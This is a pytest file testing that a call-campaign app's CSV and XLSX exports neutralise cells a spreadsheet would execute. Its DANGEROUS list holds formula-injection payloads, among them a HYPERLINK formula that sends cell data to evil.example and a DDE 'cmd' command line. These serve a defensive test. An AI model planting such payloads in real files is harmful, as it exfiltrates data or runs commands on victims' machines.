"""Export cells a spreadsheet would execute are neutralised, in CSV and XLSX alike."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from core.exports import filename_for, neutralise_cell, write_csv, write_xlsx

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "+44 7400 123456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=",
]
# Only + and digits cannot run as a formula: E.164 numbers come out as the numbers they are.
SAFE = ["Asha", "07400 123456", "", "a=b", " =still text to Excel", "café", "'already quoted",
        "+447400123456"]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_a_spreadsheet_would_execute_gets_a_leading_quote(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", SAFE)
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, True])
def test_numbers_and_other_values_are_not_text_and_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def test_csv_cells_are_neutralised_and_typed_plainly() -> None:
    out = io.BytesIO()
    moment = datetime(2026, 7, 15, 9, 20, tzinfo=UTC)
    rows = [(name, -5, True, None, moment) for name in DANGEROUS]
    count = write_csv(["name", "n", "flag", "empty", "at"], rows, out)
    assert count == len(DANGEROUS)
    raw = out.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    parsed = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert parsed[0] == ["name", "n", "flag", "empty", "at"]
    assert [row[0] for row in parsed[1:]] == ["'" + cell for cell in DANGEROUS]
    assert parsed[1][1:] == ["-5", "yes", "", "2026-07-15T10:20:00+01:00"]


def test_xlsx_cells_are_text_never_formulas() -> None:
    out = io.BytesIO()
    moment = datetime(2026, 7, 15, 9, 20, tzinfo=UTC)
    rows = [(name, -5, moment) for name in DANGEROUS + SAFE]
    assert write_xlsx(["name", "n", "at"], rows, out, sheet="attempts") == len(rows)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["attempts"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("name", "n", "at")
    for cell in sheet["A"][1:]:
        assert cell.data_type != "f"
    names = [row[0] for row in values[1:]]
    # XML reads a carriage return back as a newline; the quote in front is what matters.
    assert names[: len(DANGEROUS)] == ["'" + cell.replace("\r", "\n") for cell in DANGEROUS]
    assert names[len(DANGEROUS):] == [cell or None for cell in SAFE]
    assert values[1][1] == -5
    assert values[1][2] == datetime(2026, 7, 15, 10, 20)  # London wall-clock time


def test_export_file_names_say_what_and_when() -> None:
    moment = datetime(2026, 7, 15, 10, 20)
    assert filename_for("survey_answers", "xlsx", "NHS day: Crewe/Nantwich", moment) == (
        "ringround-survey-answers-nhs-day-crewe-nantwich-20260715-1020.xlsx")
    assert filename_for("attempts", "csv", None, moment) == (
        "ringround-attempts-all-campaigns-20260715-1020.csv")
